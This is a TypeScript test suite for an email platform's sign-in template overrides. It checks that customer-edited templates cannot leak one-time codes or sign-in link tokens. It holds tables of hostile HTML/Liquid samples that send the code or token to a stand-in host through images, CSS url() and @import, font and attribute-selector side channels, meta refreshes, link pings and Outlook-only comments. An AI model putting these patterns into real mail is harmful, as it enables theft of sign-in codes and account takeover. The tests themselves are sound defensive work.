import { expect } from 'chai';
import { templates } from '#plugins/email/tables/template.js';
import { dashboardSession, inEnvironment, withSession } from '#test/account/dashboard/support.js';
import { useSignInMail } from '#test/auth/sign-in-mail.js';
import { apiAt, type Api } from '#test/support/api.js';
import type { TestAccount } from '#test/support/platform.js';
import { publish } from './support.js';

/** HTML that would show a sign-in code to others than the recipient, and what it is. */
const leaksOfCode: Readonly<Record<string, string>> = {
  'an image': '<p>{{ code }}</p><img src="https://evil.example/p?c={{ code }}" alt="">',
  'an image that a branch completes':
    '<p>{% if true %}<img src="https://evil.example/{% endif %}{{ code }}{% if true %}">{% endif %}</p>',
  'an image whose address never ends': '<p>{{ code }}</p><img src="https://evil.example/?{{ code }}',
  'a variable of its own': '{% assign c = code %}<p>{{ code }}</p><img src="https://evil.example/{{ c }}">',
  'a captured text': '{% capture c %}{{ code }}{% endcapture %}{{ code }}<img src="https://evil.example/{{ c }}">',
  'a part of it': '<p>{{ code }}</p><img src="https://evil.example/{{ code | slice: 0, 3 }}">',
  'digit by digit':
    '<p>{{ code }}</p>{% assign d = code | split: "" %}{% for c in d %}<img src="//e.example/{{ c }}">{% endfor %}',
  'encoded for an address': '<p>{{ code }}</p><img src="https://evil.example/{{ code | url_encode }}">',
  'written backwards': '<p>{{ code }}</p><img src="https://evil.example/{{ code | split: "" | reverse | join: "" }}">',
  'a variable by its name':
    '{% assign n = "co" | append: "de" %}<p>{{ code }}</p><img src="https://e.example/{{ [n] }}">',
  'a background': '<p style="background:url(https://evil.example/{{ code }})">{{ code }}</p>',
  'a style sheet': '<style>p { background: url(https://evil.example/{{ code }}) }</style><p>{{ code }}</p>',
  'a set of images': '<p>{{ code }}</p><img srcset="https://evil.example/{{ code }} 2x">',
  'a link': '<p>{{ code }}</p><a href="https://evil.example/?c={{ code }}">Go on</a>',
  'a form': '<p>{{ code }}</p><form action="https://evil.example/{{ code }}"><button>Go on</button></form>',
  'a field of a form':
    '<p>{{ code }}</p><form action="https://evil.example"><textarea name="c">{{ code }}</textarea></form>',
  'the base of addresses': '<base href="https://evil.example/{{ code }}/"><p>{{ code }}</p>',
  'a redirection': '<meta http-equiv="refresh" content="0;url=https://evil.example/{{ code }}"><p>{{ code }}</p>',
  'a picture': '<p>{{ code }}</p><svg><image href="https://evil.example/{{ code }}"/></svg>',
  'a style in a picture': '<p>{{ code }}</p><svg><style>@import url(https://evil.example/{{ code }});</style></svg>',
  'what Outlook alone reads': '<p>{{ code }}</p><!--[if mso]><img src="https://evil.example/{{ code }}"><![endif]-->',
  'a comment': '<p>{{ code }}</p><!-- {{ code }} -->',
  'a written address': '<p>{{ code }} https://evil.example/?c={{ code }}</p>',
  'an address written in two elements': '<p>{{ code }} <b>https://evil.example/?c=</b><i>{{ code }}</i></p>',
  'a host': '<p>{{ code }}.evil.example and {{ code }}</p>',
  'a font for each digit':
    '<style>@font-face { font-family: f; src: url(//evil.example/1); unicode-range: U+31 }</style><p style="font-family: f">{{ code }}</p>',
  'a font whose rule is escaped':
    '<style>@media all { p { color: red } } @\\66 ont-face { font-family: f; src: url(//evil.example/1) }</style><p>{{ code }}</p>',
  'a style sheet from elsewhere': '<link rel="stylesheet" href="https://evil.example/s.css"><p>{{ code }}</p>',
  'an imported style sheet':
    '<style>@media all { p { color: red } } @import "//evil.example/s.css";</style><p>{{ code }}</p>',
};

const leaksOfUrl: Readonly<Record<string, string>> = {
  'a link to elsewhere': '<a href="https://evil.example/?u={{ url }}">Sign in</a>{{ url }}',
  'an image': '<a href="{{ url }}">Sign in</a><img src="{{ url }}">',
  'an encoded part of a link': '<a href="https://evil.example/?u={{ url | url_encode }}">Sign in</a>{{ url }}',
  'a link that reports its clicks': '<a href="{{ url }}" ping="https://evil.example/">Sign in</a>{{ url }}',
  'the end of a link': '<a href="{{ url }}&amp;next=https://evil.example">Sign in</a>{{ url }}',
  'an attribute of a link': '<a href="{{ url }}" title="{{ url }}">Sign in</a>',
  'a style for each start of a link':
    '<style>@media all { a[href*="token=a"] { background: url(//evil.example/a) } }</style><a href="{{ url }}">Sign in</a>',
  'such a style that is kept as it is':
    '<style data-embed>a[/**/hr\\65 f*="token=a"] { background: url(//evil.example/a) }</style><a href="{{ url }}">Sign in</a>',
  'such a style in a picture':
    '<svg><style>@media all { a&#91;href*="token=a"] { background: url(//evil.example/a) } }</style></svg><a href="{{ url }}">Sign in</a>',
};

describe('overrides of system mail', () => {
  const test = useSignInMail();
  const { platform } = test;
  const codeTemplate = 'auth.signin.code';
  const linkTemplate = 'auth.signin.link';
  const body = (html: string) => ({ en: { subject: 'Hello', html } });

  const keyWith = async ({ svc }: TestAccount, permissions: string[]): Promise<Api> => {
    const { plaintext } = await svc.call('developers.key.create', { name: 'Newsletter tool', permissions });
    const { running } = platform;
    return apiAt(
      () => running.address,
      () => plaintext,
      () => running.registry,
    );
  };

  it('need the write permission of the product that sends the message', async () => {
    const account = await platform.account();
    const writer = await keyWith(account, ['email:write', 'sms:write', 'account:read', 'auth:read']);
    await publish(account.svc, codeTemplate, body('<p>{{ code }}</p>'));
    const evil = body('<img src="https://evil.example/{{ code }}">');
    for (const [operation, input, permission] of [
      ['email.template.draft.save', { template: codeTemplate, locales: evil }, 'auth:write'],
      ['email.template.draft.save', { template: codeTemplate, locales: { en: null } }, 'auth:write'],
      ['email.template.publish', { template: codeTemplate }, 'auth:write'],
      ['email.template.delete', { template: codeTemplate }, 'auth:write'],
      ['email.template.draft.save', { template: 'account.member.invite', locales: evil }, 'account:write'],
      ['email.template.draft.save', { template: 'billing.cap', locales: evil }, 'billing:write'],
      ['email.template.draft.save', { template: 'developers.webhook.disabled', locales: evil }, 'developers:write'],
      ['sms.template.draft.save', { template: codeTemplate, locales: { en: { body: '{{ code }}' } } }, 'auth:write'],
      ['sms.template.publish', { template: codeTemplate }, 'auth:write'],
      ['sms.template.delete', { template: codeTemplate }, 'auth:write'],
    ] as const) {
      const refused = await writer.refusal(operation, input);
      expect([operation, refused.status, refused.code], refused.message).to.deep.equal([
        operation,
        403,
        'permission_required',
      ]);
      expect(refused.message + refused.fix).to.contain(permission);
    }
    await writer.call('email.template.draft.save', { template: 'order.shipped', locales: evil });
    const both = await keyWith(account, ['email:write', 'auth:write']);
    await publish(both, codeTemplate, body('<p>Your code: {{ code }}</p>'));
    await both.call('email.template.delete', { template: codeTemplate });
  });

  it('show a code in text only', async () => {
    const { svc } = await platform.account();
    for (const [what, html] of Object.entries(leaksOfCode)) {
      const refused = await svc.refusal('email.template.draft.save', { template: codeTemplate, locales: body(html) });
      expect([what, refused.status, refused.code], refused.message).to.deep.equal([what, 400, 'template_invalid']);
      expect(refused.details).to.include({ locale: 'en', part: 'html' });
      expect(refused.message, what).to.contain('the variable code');
    }
    for (const text of [
      'https://evil.example/?c={{ code }}',
      '{{ code }}.evil.example',
      'sms:+15550100?body={{ code }}',
    ]) {
      const locales = { en: { subject: 'Hello', text: `{{ code }} ${text}` } };
      const refused = await svc.refusal('email.template.draft.save', { template: codeTemplate, locales });
      expect([text, refused.code]).to.deep.equal([text, 'template_invalid']);
      const texts = { en: { body: `{{ code }} ${text}` } };
      const refusedText = await svc.refusal('sms.template.draft.save', { template: codeTemplate, locales: texts });
      expect([text, refusedText.code]).to.deep.equal([text, 'template_invalid']);
    }
  });

  it('show a link in text and as the whole address of links only', async () => {
    const { svc } = await platform.account();
    for (const [what, html] of Object.entries(leaksOfUrl)) {
      const refused = await svc.refusal('email.template.draft.save', { template: linkTemplate, locales: body(html) });
      expect([what, refused.code], refused.message).to.deep.equal([what, 'template_invalid']);
      expect(refused.message, what).to.contain('the variable url');
    }
  });

  it('may show them as mail programs need it', async () => {
    const account = await platform.account();
    const { svc } = account;
    await publish(svc, codeTemplate, {
      en: {
        subject: '{{ code }}: your code',
        preheader: 'It is {{ code }}.',
        html: '{% if code %}<h1>Code:{{ code }}</h1>{% endif %}<p>Enter <b>{{ code | escape }}</b>, valid {{ minutes }} min. Not for <a href="https://shop.example">shop.example</a>.</p>',
      },
    });
    await publish(svc, linkTemplate, {
      en: {
        subject: 'Sign in',
        html: '<style>@media (max-width: 600px) { a.button[class] { color: red } }</style><!--[if mso]><v:roundrect href="{{ url }}" arcsize="9%">Sign in</v:roundrect><![endif]--><p><a class="button" href="{{ url }}">Sign in</a> or {{ url }}</p>',
      },
    });
    const app = test.app(account);
    await app.call('auth.signin.start', { email: 'ada@example.com' });
    const code = await test.codeTo('ada@example.com');
    const [mail] = await test.mailsTo('ada@example.com');
    expect(mail?.parsed.subject).to.equal(`${code}: your code`);
    expect(mail?.parsed.html).to.contain(`Code:${code}</h1>`);
    await app.call('auth.signin.start', { email: 'bob@example.com', method: 'link' });
    const token = await test.linkTo('bob@example.com');
    const [link] = await test.mailsTo('bob@example.com');
    expect(link?.parsed.html).to.match(new RegExp(`<v:roundrect href="https?://[^"]*token=${token}"`));
    expect((await app.call('auth.link.complete', { token })).status).to.equal('complete');
  });

  it('are replaced by the built-in texts where what is sent would pass a code on, also where one was published before', async () => {
    const account = await platform.account();
    await publish(
      account.svc,
      codeTemplate,
      body('<p>{{ code }}</p>{% if minutes == "10" %}<img src="https://evil.example/{{ code }}">{% endif %}'),
    );
    await test.app(account).call('auth.signin.start', { email: 'cy@example.com' });
    const code = await test.codeTo('cy@example.com');
    const [mail] = await test.mailsTo('cy@example.com');
    expect(mail?.parsed.html).to.contain(code).and.not.contain('evil.example');
    expect(await platform.count(templates.options.name, "name = 'auth.signin.code'")).to.be.greaterThan(0);
  });

  it('tell nothing of a code by conditions on it', async () => {
    const account = await platform.account();
    const digits = Array.from({ length: 10 }, (_, digit) => `{% if code contains "${digit}" %}has ${digit}{% endif %}`);
    await publish(account.svc, codeTemplate, body(`<p>{{ code }}</p><p>${digits.join(' ')}</p>`));
    await test.app(account).call('auth.signin.start', { email: 'di@example.com' });
    await test.codeTo('di@example.com');
    const [mail] = await test.mailsTo('di@example.com');
    expect(mail?.parsed.html).to.not.contain('has ');
  });

  it('are not used for invitations in test environments, which go to strangers', async () => {
    const account = await platform.account();
    await publish(account.svcTest, 'account.member.invite', body('<p>Buy now!</p><a href="{{ url }}">{{ url }}</a>'));
    const owner = withSession(platform, await dashboardSession(platform, account.ownerEmail));
    await owner.call('account.member.invite', { email: 'stranger@example.com' }, inEnvironment(account.test));
    const [mail] = await test.mailsTo('stranger@example.com');
    expect(mail?.parsed.text).to.contain('/invite?token=').and.not.contain('Buy now!');
  });
});
